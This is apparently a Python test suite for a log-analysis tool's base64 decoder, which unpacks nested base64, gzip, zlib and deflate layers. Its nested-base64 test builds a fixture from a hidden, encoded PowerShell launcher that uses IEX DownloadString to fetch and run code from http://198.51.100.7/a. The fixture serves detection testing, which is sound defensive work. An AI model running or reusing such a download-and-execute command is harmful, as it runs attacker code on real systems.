"""Base64 in texts: what was put in comes out, however often it was wrapped; what is none is left alone."""

from __future__ import annotations

import base64
import gzip
import zlib

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from twsla.query.base64_text import decode, find_base64

PRINTABLE = st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=12, max_size=200)


def wrapped(data: bytes) -> str:
    return base64.b64encode(data).decode()


@given(PRINTABLE)
def test_text_comes_out(text: str) -> None:
    # Of some texts the base64 looks like a word or a number; these are not taken for it.
    narrow, wide = wrapped(text.encode()), wrapped(text.encode("utf-16-le"))
    assume(not narrow.rstrip("=").isalpha() and not narrow.rstrip("=").isdigit())
    assert decode(narrow) == ("base64, utf-8", text)
    assert decode(wide) == ("base64, utf-16le", text)
    assert decode(wrapped(gzip.compress(text.encode()))) == ("base64, gzip, utf-8", text)
    assert decode(wrapped(zlib.compress(text.encode()))) == ("base64, zlib, utf-8", text)


def test_deflate_without_a_header() -> None:
    script = "Write-Host 'a a a a a a a a a a a a a a a a a a'\n" * 20
    packer = zlib.compressobj(wbits=-15)
    assert decode(wrapped(packer.compress(script.encode()) + packer.flush())) == ("base64, deflate, utf-8", script)


def test_base64_within_base64() -> None:
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    middle = f"$x=[Convert]::FromBase64String('{wrapped(inner.encode())}')"
    line = f"powershell -nop -enc {wrapped(middle.encode('utf-16-le'))} -w hidden"
    found = [(each.depth, each.how, each.text) for each in find_base64(line)]
    assert found == [(0, "base64, utf-16le", middle), (1, "base64, utf-8", inner)]


def test_programs_are_told_of() -> None:
    program = b"MZ".ljust(64, b"\0") + b"PE\0\0" + bytes(100)
    (found,) = find_base64(wrapped(program))
    assert found.text == "[a Windows program of 168 bytes]"


@pytest.mark.parametrize(
    "text",
    [
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "Microsoft-Windows-PowerShell/Operational",
        "8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92",
        "54849625-5478-4994-A5BA-3E3B0328C30D",
        "NT AUTHORITY/NETWORK_SERVICE_ACCOUNT_NAME",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "http://example.com/this/is/a/long/path/of/a/page",
        "",
        "=" * 50,
    ],
)
def test_what_is_none(text: str) -> None:
    assert list(find_base64(text)) == []


@given(st.binary(min_size=12, max_size=300))
def test_any_bytes(data: bytes) -> None:
    for found in find_base64(f"x '{wrapped(data)}' y"):
        assert found.text.isprintable() or "\n" in found.text or "\t" in found.text or "\r" in found.text


def test_a_bomb_is_not_unpacked_to_its_end() -> None:
    (found,) = find_base64(wrapped(gzip.compress(b"a b " * 10_000_000)))
    assert len(found.text) <= 4 << 20


def test_very_many_layers_end() -> None:
    text = "Write-Output 'a quite ordinary line'"
    for _ in range(12):
        text = f"x('{wrapped(text.encode())}')"
    assert 1 < len(list(find_base64(text))) < 20
